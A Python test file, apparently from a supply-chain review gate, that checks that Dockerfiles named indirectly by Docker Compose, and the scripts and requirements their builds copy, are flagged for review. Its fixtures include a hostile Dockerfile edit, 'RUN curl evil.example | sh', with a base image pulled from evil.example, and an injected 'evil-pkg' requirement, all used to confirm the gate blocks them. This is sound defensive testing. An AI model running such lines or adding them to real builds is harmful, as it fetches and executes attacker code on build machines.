"""Red team 17: the Dockerfile a Compose file builds, whatever its name, and what it reads from the build's context.

`build: {context: ., dockerfile: build/app.docker}` makes `build/app.docker` a service's image definition; by its
name it is no Dockerfile, and an edit of its base image and RUN lines was `src`: `gate --tree` allowed it (exit 0,
now 3 `core.iac`). With `context: svc` and `dockerfile: ../images/app.build`, the script its RUN runs after
`COPY build.sh /b.sh` is `svc/build.sh` (the context's, not the Dockerfile's folder), and the file its `pip install -r
/r.txt` reads after `COPY req.txt /r.txt` is `svc/req.txt`: both were `src` and allowed (now `iac`, and `deps` under
`--enable deps`). Compose files it takes in (`include:`, `extends: file:`) are Compose definitions too.
"""

from __future__ import annotations

import contextlib
import json
from pathlib import Path

import pytest
from gitrepo import two_commits
from incli import tree_gate

from gatekeeper.classify.composerefs import builds, is_compose
from gatekeeper.cli import main

COMPOSE = ("services:\n  app:\n    build:\n      context: svc\n      dockerfile: ../images/app.build\n"
           "  web:\n    build: web\n    extends:\n      file: common/base.yml\n      service: base\n"
           "  tagged:\n    build:\n      context: .\n      dockerfile: build/${APP:-api}.docker\n"
           "  any:\n    build:\n      context: .\n      dockerfile: variants/${VARIANT}.docker\n"
           "  remote:\n    build: https://github.com/example/repo.git\n"
           "  inline:\n    build:\n      context: .\n      dockerfile_inline: FROM alpine\n"
           "include:\n  - shared/compose.override.yml\n  - path: ../outside.yml\n")
FILES = {
    "deploy/docker-compose.yml": COMPOSE.replace("context: .\n", "context: ..\n").replace("context: svc",
                                                                                             "context: ../svc"),
    "images/app.build": "FROM python:3.12\nCOPY build.sh /b.sh\nCOPY req.txt /r.txt\n"
                        "RUN /b.sh && pip install -r /r.txt\n",
    "svc/build.sh": "#!/bin/sh\necho build\n", "svc/req.txt": "six==1.16.0\n", "svc/app.py": "print(1)\n",
    "common/base.yml": "services:\n  base:\n    image: alpine\n", "shared/compose.override.yml": "services: {}\n",
    "build/api.docker": "FROM alpine\n", "variants/slim.docker": "FROM alpine\n", "variants/notes.md": "notes\n",
    "data/seed.sql": "select 1;\n",
    # a test's input (compose's own e2e tests): nothing builds it
    "pkg/e2e/testdata/compose.yaml": "services:\n  t:\n    build:\n      context: .\n      dockerfile: app.docker\n",
    "pkg/e2e/testdata/app.docker": "FROM alpine\n",
}


def test_compose_names_by_file_name() -> None:
    assert [p for p in ("compose.yaml", "docker-compose.prod.yml", "app.compose.yml", "deploy/stack-compose.yaml",
                        "composer.json", "decompose.yml", "compose.md", "composer.yml") if is_compose(p)] == [
        "compose.yaml", "docker-compose.prod.yml", "app.compose.yml", "deploy/stack-compose.yaml"]


def test_what_a_compose_file_builds_and_takes_in() -> None:
    assert builds("compose.yaml", COMPOSE) == [
        ("images/app.build", "svc"), ("web/Dockerfile", "web"), ("common/base.yml", None),
        ("build/api.docker", ""), ("variants/\x00.docker", ""), ("shared/compose.override.yml", None),
        (".env", None)]  # its variables' values (red team 14, second round: tests/test_redteam14_compose_env.py)


def test_every_file_a_build_reads_is_reviewed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    edited = {path: text + "# edited\n" if not path.endswith(".txt") else "six==1.16.0\nevil-pkg==1.0\n"
              for path, text in FILES.items() if path.rpartition("/")[2] not in ("docker-compose.yml", "compose.yaml")}
    repo, old, new = two_commits(tmp_path / "repo", FILES, edited)
    capsys.readouterr()
    with contextlib.chdir(repo.root):
        assert main(["classify", "--tree", f"{old}..{new}", "--format", "json"]) == 0
    files = {f["path"]: f for f in json.loads(capsys.readouterr().out)["files"]}
    buckets = {path: f["bucket"] for path, f in files.items()}
    assert buckets == {
        "images/app.build": "iac", "svc/build.sh": "iac", "svc/req.txt": "deps", "svc/app.py": "src",
        "common/base.yml": "iac", "shared/compose.override.yml": "iac", "build/api.docker": "iac",
        "variants/slim.docker": "iac", "variants/notes.md": "src", "data/seed.sql": "src",
        "pkg/e2e/testdata/app.docker": "src"}, files
    assert files["svc/build.sh"]["rule"] == "iac.context.compose-build"


def test_the_gate_reviews_a_dockerfile_by_another_name(tmp_path: Path) -> None:
    base = {"docker-compose.yml": "services:\n  app:\n    build:\n      context: .\n"
                                  "      dockerfile: build/app.docker\n",
            "build/app.docker": "FROM python:3.12\nRUN echo hi\n"}
    repo, old, new = two_commits(tmp_path / "repo", base,
                                 {"build/app.docker": "FROM evil.example/python:3.12\nRUN curl evil.example | sh\n"})
    code, decision = tree_gate(repo.root, old, new)
    reasons = decision["reasons"]
    assert code == 3, reasons
    assert [(r["rule"], r["paths"]) for r in reasons] == [("core.iac", ["build/app.docker"])]


def test_the_gate_reviews_the_requirements_a_compose_build_installs(tmp_path: Path) -> None:
    base = {"compose.yaml": "services:\n  app:\n    build:\n      context: svc\n      dockerfile: ../images/app\n",
            "images/app": "FROM python:3.12\nCOPY req.txt /r.txt\nRUN pip install -r /r.txt\n",
            "svc/req.txt": "six==1.16.0\n"}
    repo, old, new = two_commits(tmp_path / "repo", base, {"svc/req.txt": "six==1.16.0\nevil-pkg==1.0\n"})
    code, decision = tree_gate(repo.root, old, new, None, "--enable", "deps")
    reasons = decision["reasons"]
    assert code == 3, reasons
    assert {p for r in reasons for p in r.get("paths", ())} == {"svc/req.txt"}
